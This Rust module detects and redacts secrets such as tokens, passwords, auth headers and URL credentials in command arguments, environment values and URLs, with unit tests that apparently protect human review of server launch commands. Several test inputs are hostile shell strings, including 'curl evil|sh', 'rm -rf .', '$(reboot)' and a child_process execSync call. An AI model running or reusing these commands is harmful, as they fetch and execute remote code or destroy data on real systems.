//! Decides which parts of a value look like secrets.

mod scrutiny;

use std::ops::Range;

use self::scrutiny::{Scrutiny, leading_run, used_names};

/// What is shown in place of a secret.
pub(crate) const REDACTED: &str = "[redacted]";

/// A part of a value that looks like a secret.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct SecretPart {
    pub(crate) range: Range<usize>,
    /// Whether a placeholder can take its place: the default of a variable cannot be one.
    pub(crate) is_storable: bool,
}

/// Finds secrets in the value of a variable or header.
pub(crate) fn find_in_value(name: &str, value: &str) -> Vec<SecretPart> {
    if is_secret_name(name) {
        return find_literals(value, scheme_length(value));
    }
    find_in_text(value, Scrutiny::of_command(&[value.to_owned()]))
}

/// Whether a word of a command line looks like it holds a secret. In doubt it does.
pub fn has_secret(words: &[String]) -> bool {
    find_in_words(words, Scrutiny::Lenient).iter().any(|parts| !parts.is_empty())
}

/// Finds secrets in each argument of a command. What could be code is none.
pub(crate) fn find_in_args(args: &[String]) -> Vec<Vec<SecretPart>> {
    find_in_words(args, Scrutiny::of_command(args))
}

fn find_in_words(words: &[String], scrutiny: Scrutiny) -> Vec<Vec<SecretPart>> {
    let mut found = Vec::with_capacity(words.len());
    let mut is_value_of_secret = false;
    let mut is_header = false;
    let used = used_names(words);
    // A token may begin with one hyphen; where it could be an option, it is taken for one.
    let option_start = if scrutiny == Scrutiny::Lenient { "--" } else { "-" };
    for word in words {
        let was_secret = std::mem::take(&mut is_value_of_secret);
        let was_header = std::mem::take(&mut is_header);
        if was_secret
            && !word.starts_with(option_start)
            && let Some(parts) = scrutiny.find_accepted_literals(word, 0)
        {
            found.push(parts);
            continue;
        }
        let assigned = word.split_once('=').map(|(name, _)| (name.trim_start_matches('-'), name.len() + 1));
        let header_at = match assigned {
            _ if was_header => Some(0),
            Some(("header" | "headers" | "H", at)) => Some(at),
            _ => None,
        };
        let of_header = header_at.and_then(|at| Some(shift(find_in_header(&word[at..], scrutiny)?, at)));
        let of_assignment = assigned
            .filter(|(name, _)| is_identifier(name) && is_secret_name(name))
            .filter(|(name, _)| {
                scrutiny == Scrutiny::Lenient || word.starts_with('-') || !used.contains(name)
            })
            .and_then(|(_, at)| scrutiny.find_accepted_literals(word, at));
        if let Some(parts) = of_header.or(of_assignment) {
            found.push(parts);
            continue;
        }
        let name = word.trim_start_matches('-');
        let is_option = word.starts_with('-') && is_identifier(name);
        is_header = is_option && matches!(word.as_str(), "-H" | "--header" | "--headers");
        is_value_of_secret = is_option && !is_header && is_secret_name(name);
        let mut parts = find_in_text(word, scrutiny);
        parts.extend(scrutiny.find_assigned(word, &used));
        parts.sort_by_key(|part| part.range.start);
        let mut end = 0;
        parts.retain(|part| {
            let is_apart = part.range.start >= end;
            end = end.max(part.range.end);
            is_apart
        });
        found.push(parts);
    }
    found
}

/// Finds secrets in `Name: value`; `None` if the name is not that of a secret, or the value could be code.
fn find_in_header(header: &str, scrutiny: Scrutiny) -> Option<Vec<SecretPart>> {
    let (name, value) = header.split_once(':').filter(|(name, _)| is_secret_name(name))?;
    let blanks = value.len() - value.trim_start().len();
    let value = &value[blanks..];
    let parts = scrutiny.find_accepted_literals(value, scheme_length(value))?;
    Some(shift(parts, name.len() + 1 + blanks))
}

/// Finds secrets in a URL: passwords, parameters that are called like a secret, and random parts of the
/// path.
pub(crate) fn find_in_url(url: &str) -> Vec<SecretPart> {
    let mut found = Vec::new();
    let rest = url.split_once("://").map_or(0, |(scheme, _)| scheme.len() + 3);
    let path_at = url[rest..].find(['/', '?', '#']).map_or(url.len(), |at| rest + at);
    if let Some(at) = url[rest..path_at].rfind('@') {
        found.extend(find_literals(&url[rest..rest + at], 0).into_iter().map(|part| part.shifted(rest)));
    }
    let query_at = url[path_at..].find('?').map_or(url.len(), |at| path_at + at);
    let mut at = path_at;
    for segment in url[path_at..query_at].split_inclusive('/') {
        let name = segment.trim_end_matches('/');
        if is_random(name) || has_token_prefix(name) {
            found.push(SecretPart { range: at..at + name.len(), is_storable: true });
        }
        found.extend(shift(find_in_default(name), at));
        at += segment.len();
    }
    let mut at = query_at + 1;
    for pair in url.get(query_at + 1..).unwrap_or_default().split('&') {
        if let Some((name, value)) = pair.split_once('=')
            && (is_secret_name(name) || has_token_prefix(value))
        {
            found.extend(shift(find_literals(value, 0), at + name.len() + 1));
        }
        at += pair.len() + 1;
    }
    found
}

/// Finds secrets in a text that is not called like one: in URLs, after `Bearer`, and tokens of well-known
/// services.
fn find_in_text(text: &str, scrutiny: Scrutiny) -> Vec<SecretPart> {
    let is_gap = |c: char| c.is_whitespace() || "\"',;".contains(c);
    let mut found = Vec::new();
    let mut at = 0;
    let mut follows_scheme = false;
    for word in text.split_inclusive(is_gap) {
        let bare = word.trim_end_matches(is_gap);
        if follows_scheme {
            found.extend(shift(scrutiny.find_accepted_literals(bare, 0).unwrap_or_default(), at));
        } else if let Some(end) = bare.find("://") {
            let is_outside = |c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c);
            let begin = bare[..end].rfind(is_outside).map_or(0, |before| before + 1);
            if let Some(url) = bare.get(begin..) {
                let mut parts = find_in_url(url);
                // Code does not run a part of a URL.
                parts.retain(|part| scrutiny.min(Scrutiny::Words).accepts(&url[part.range.clone()]));
                found.extend(shift(parts, at + begin));
            }
        } else {
            let mut parts = find_in_default(bare);
            parts.retain(|part| scrutiny.accepts(&bare[part.range.clone()]));
            found.extend(shift(parts, at));
            let mut inner = at;
            for part in bare.split_inclusive(['=', ':']) {
                let token = part.trim_end_matches(['=', ':']);
                let token = if scrutiny == Scrutiny::Lenient { token } else { leading_run(token) };
                if has_token_prefix(token) {
                    found.push(SecretPart { range: inner..inner + token.len(), is_storable: true });
                }
                inner += part.len();
            }
        }
        follows_scheme = ["bearer", "basic"].iter().any(|scheme| bare.eq_ignore_ascii_case(scheme));
        at += word.len();
    }
    found
}

/// Finds a token of a well-known service that is the default of a placeholder, such as `${NAME:-sk-…}`.
fn find_in_default(word: &str) -> Vec<SecretPart> {
    let Some(begin) = word.find(":-").map(|at| at + 2) else { return Vec::new() };
    let end = word[begin..].find('}').map_or(word.len(), |length| begin + length);
    let part = SecretPart { range: begin..end, is_storable: false };
    if has_token_prefix(&word[begin..end]) { vec![part] } else { Vec::new() }
}

/// Finds what is not a placeholder, from an offset on.
fn find_literals(value: &str, from: usize) -> Vec<SecretPart> {
    let mut found = Vec::new();
    let mut begin = from;
    let mut at = from;
    let mut push = |range: Range<usize>, is_storable| {
        if !value[range.clone()].trim().is_empty() {
            found.push(SecretPart { range, is_storable });
        }
    };
    while let Some(rest) = value.get(at..).filter(|rest| !rest.is_empty()) {
        if rest.starts_with("$${") {
            at += 3;
            continue;
        }
        let is_opening = ["${", "{env:", "{file:"].iter().any(|opening| rest.starts_with(opening));
        if is_opening && let Some(length) = rest.find('}') {
            push(begin..at, true);
            let end = at + length + 1;
            if let Some(default) = value[at..end].find(":-") {
                push(at + default + 2..end - 1, false);
            }
            (begin, at) = (end, end);
            continue;
        }
        at += rest.chars().next().map_or(1, char::len_utf8);
    }
    push(begin..value.len(), true);
    found
}

impl SecretPart {
    fn shifted(self, by: usize) -> Self {
        Self { range: self.range.start + by..self.range.end + by, ..self }
    }
}

fn shift(parts: Vec<SecretPart>, by: usize) -> Vec<SecretPart> {
    parts.into_iter().map(|part| part.shifted(by)).collect()
}

/// The length of `Bearer ` and the like at the beginning of a value.
fn scheme_length(value: &str) -> usize {
    let length = value.find(' ').unwrap_or(0);
    let is_scheme = SCHEMES.iter().any(|scheme| value[..length].eq_ignore_ascii_case(scheme));
    if is_scheme { length + 1 } else { 0 }
}

/// Whether a variable, header, option or parameter of this name holds a secret.
fn is_secret_name(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let words: Vec<&str> = lower.split(|c: char| !c.is_ascii_alphanumeric()).collect();
    if words.last().is_some_and(|last| HARMLESS_ENDS.contains(last)) {
        return false;
    }
    words.iter().any(|word| SECRET_WORDS.contains(word))
        || SECRET_PARTS.iter().any(|part| lower.replace(['-', '_'], "").contains(part))
}

fn is_identifier(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(&byte))
}

fn has_token_prefix(word: &str) -> bool {
    word.len() >= 16 && TOKEN_PREFIXES.iter().any(|prefix| word.starts_with(prefix))
}

/// Whether a part of a path looks like it was drawn at random.
fn is_random(part: &str) -> bool {
    let count = |is: fn(&u8) -> bool| part.bytes().filter(is).count();
    part.len() >= 20
        && part.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_=".contains(&byte))
        && count(u8::is_ascii_digit) >= 3
        && count(u8::is_ascii_alphabetic) >= 3
}

const SCHEMES: [&str; 6] = ["Bearer", "Basic", "Token", "ApiKey", "Digest", "Key"];

const SECRET_WORDS: [&str; 17] = [
    "key",
    "keys",
    "token",
    "tokens",
    "secret",
    "secrets",
    "pass",
    "pwd",
    "passwd",
    "password",
    "passphrase",
    "auth",
    "cookie",
    "pat",
    "jwt",
    "credential",
    "credentials",
];

/// Parts of names whose words are not separated.
const SECRET_PARTS: [&str; 7] =
    ["token", "secret", "password", "apikey", "authorization", "accesskey", "privatekey"];

/// Last words of names that only speak of a secret, or name a program that prints one.
const HARMLESS_ENDS: [&str; 22] = [
    "file", "path", "dir", "folder", "url", "uri", "endpoint", "id", "name", "type", "env", "var", "method",
    "mode", "limit", "timeout", "command", "cmd", "helper", "program", "script", "exec",
];

/// How tokens of well-known services begin.
const TOKEN_PREFIXES: [&str; 16] = [
    "sk-",
    "sk_",
    "pk_",
    "rk_",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "AKIA",
    "AIza",
    "eyJ",
    "ntn_",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn redacted(value: &str, parts: Vec<SecretPart>) -> String {
        let mut shown = value.to_owned();
        for part in parts.into_iter().rev() {
            shown.replace_range(part.range, "*");
        }
        shown
    }

    #[test]
    fn values_that_are_called_secrets_are_hidden() {
        for (name, value, shown) in [
            ("GITHUB_TOKEN", "abc", "*"),
            ("GITHUB_TOKEN", "${GITHUB_TOKEN}", "${GITHUB_TOKEN}"),
            ("Authorization", "Bearer abc", "Bearer *"),
            ("Authorization", "Bearer ${T}", "Bearer ${T}"),
            ("Authorization", "Bearer ${T:-abc}", "Bearer ${T:-*}"),
            ("x-api-key", "$${a}b", "*"),
            ("X-API-Key", "${A}x{file:b}", "${A}*{file:b}"),
            ("apiKey", "v", "*"),
            ("TOKEN_URL", "https://h/", "https://h/"),
            ("API_KEY_FILE", "/k", "/k"),
            ("KEYBOARD", "us", "us"),
            ("API_KEY_COMMAND", "sh evil", "sh evil"),
            ("BASH_ENV", "http://$(reboot)@h/ bearer $(reboot)", "http://$(reboot)@h/ bearer $(reboot)"),
            ("PATH", "/bin", "/bin"),
            ("DATABASE", "postgres://u:p@h/db", "postgres://*@h/db"),
            ("NOTE", "ghp_0123456789abcdef0123", "*"),
            ("NOTE", "${X:-ghp_0123456789abcdef0123}", "${X:-*}"),
            ("NOTE", "a=${X:-sk-0123456789abcdef0123},b", "a=${X:-*},b"),
            ("NOTE", "${X:-info}", "${X:-info}"),
            ("BASE", "https://h/${X:-ghp_0123456789abcdef0123}/mcp", "https://h/${X:-*}/mcp"),
            (
                "HEADERS",
                r#"{"Authorization": "Bearer abc", "X": "1"}"#,
                r#"{"Authorization": "Bearer *", "X": "1"}"#,
            ),
            ("HEADERS", "Authorization=Bearer ${T}", "Authorization=Bearer ${T}"),
            ("URLS", "a=é://x,http://u@h/", "a=é://x,http://*@h/"),
        ] {
            assert_eq!(redacted(value, find_in_value(name, value)), shown, "{name}={value}");
        }
    }

    fn redacted_args(args: &[&str]) -> Vec<String> {
        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
        args.iter().zip(find_in_args(&args)).map(|(arg, parts)| redacted(arg, parts)).collect()
    }

    #[test]
    fn arguments_that_hold_secrets_are_hidden() {
        let args = [
            "-y",
            "@scope/server-everything@2025.11.25",
            "--api-key",
            "abc",
            "--token=abc",
            "-e",
            "DB_PASSWORD=abc",
            "-e",
            "LEVEL=1",
            "--header",
            "Authorization: Bearer abc",
            "--header",
            "X-Level: 2",
            "--key-file",
            "/k",
            "--secret",
            "--verbose",
            "https://h/mcp?api_key=abc&x=1",
            "--database-url=postgres://u:p@h/db",
            "--header=X-Api-Key: abc",
            "-H=X-Level: 2",
        ];
        let expected = [
            "-y",
            "@scope/server-everything@2025.11.25",
            "--api-key",
            "*",
            "--token=*",
            "-e",
            "DB_PASSWORD=*",
            "-e",
            "LEVEL=1",
            "--header",
            "Authorization: Bearer *",
            "--header",
            "X-Level: 2",
            "--key-file",
            "/k",
            "--secret",
            "--verbose",
            "https://h/mcp?api_key=*&x=1",
            "--database-url=postgres://*@h/db",
            "--header=X-Api-Key: *",
            "-H=X-Level: 2",
        ];
        assert_eq!(redacted_args(&args), expected);
    }

    /// SE-04: a person sees all that would run.
    #[test]
    fn code_is_never_taken_for_a_secret() {
        let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
        let known = "ghp_0123456789abcdef0123";
        for args in [
            &["-c", "API_KEY=$(touch /tmp/x) true"][..],
            &["-c", "PASSWORD=1\nimport os\nos.system('reboot')"],
            &["-c", "PASSWORD=os.system;PASSWORD('reboot')"],
            &["--eval", "--token", "-e", "PASSWORD=require(\"child_process\").execSync(\"reboot\")"],
            &["-c", "TOKEN=1; curl evil|sh"],
            &["-c", "TOKEN=curl; $TOKEN evil"],
            &["TOKEN=rm", "sh", "-c", "$TOKEN -rf ."],
            &["-c", "\"$2\" -rf .", "--token", "rm"],
            &["-c", "alias my-token=reboot; my-token"],
            &["/c", "set TOKEN=calc", "&", "%TOKEN%"],
            &["--token", "rm -rf ."],
            &["--token", "./evil"],
            &["--token", "`reboot`"],
            &["--password-command", "evil"],
            &["-c", "alias.key=!reboot", "key"],
            &["-c", "-H", "X-Token:; reboot"],
            &["-c", "http://$(reboot)@h?token=$(reboot)"],
            &["-c", "basic(){ \"$@\";}; basic reboot"],
            &["-c", "${X:-sk-$(reboot>0123456789)}"],
        ] {
            assert_eq!(redacted_args(args), args);
        }
        for (arg, shown) in [
            ("API_KEY=k; touch /tmp/x; cat".to_owned(), "API_KEY=*; touch /tmp/x; cat".to_owned()),
            ("X_TOKEN=1 curl evil".to_owned(), "X_TOKEN=* curl evil".to_owned()),
            ("A_KEY=\"k\" B_KEY='l' x".to_owned(), "A_KEY=\"*\" B_KEY='*' x".to_owned()),
            ("Server=x;Password=p;Port=1".to_owned(), "Server=x;Password=*;Port=1".to_owned()),
            (format!("API_KEY={random}; curl evil|sh"), "API_KEY=*; curl evil|sh".to_owned()),
            (format!("x {known}$(reboot)"), "x *$(reboot)".to_owned()),
            (
                format!("TOKEN={known} x https://u:p@h/?key=1|sh"),
                "TOKEN=* x https://*@h/?key=1|sh".to_owned(),
            ),
        ] {
            assert_eq!(redacted_args(&["-c", &arg]), ["-c", &*shown]);
        }
        assert_eq!(redacted_args(&["-c", "exec x \"$@\"", "--token", random])[3], "*");
    }

    #[test]
    fn a_word_in_doubt_is_a_secret_to_who_only_asks() {
        for words in [&["password=two words"][..], &["token=$x"], &["--token", "-a;b"]] {
            let words: Vec<String> = words.iter().map(ToString::to_string).collect();
            assert!(has_secret(&words), "{words:?}");
        }
    }

    #[test]
    fn urls_show_what_is_no_secret() {
        for (url, shown) in [
            ("https://mcp.example.com/v1/mcp?x=1", "https://mcp.example.com/v1/mcp?x=1"),
            ("https://h/s/0f8fad5b-d9cb-469f-a165-70867728950e/mcp", "https://h/s/*/mcp"),
            ("https://u:p@h", "https://*@h"),
            ("https://h?token=a&b=c", "https://h?token=*&b=c"),
            ("https://h/?token=${T}", "https://h/?token=${T}"),
            ("not a url", "not a url"),
        ] {
            assert_eq!(redacted(url, find_in_url(url)), shown, "{url}");
        }
    }
}
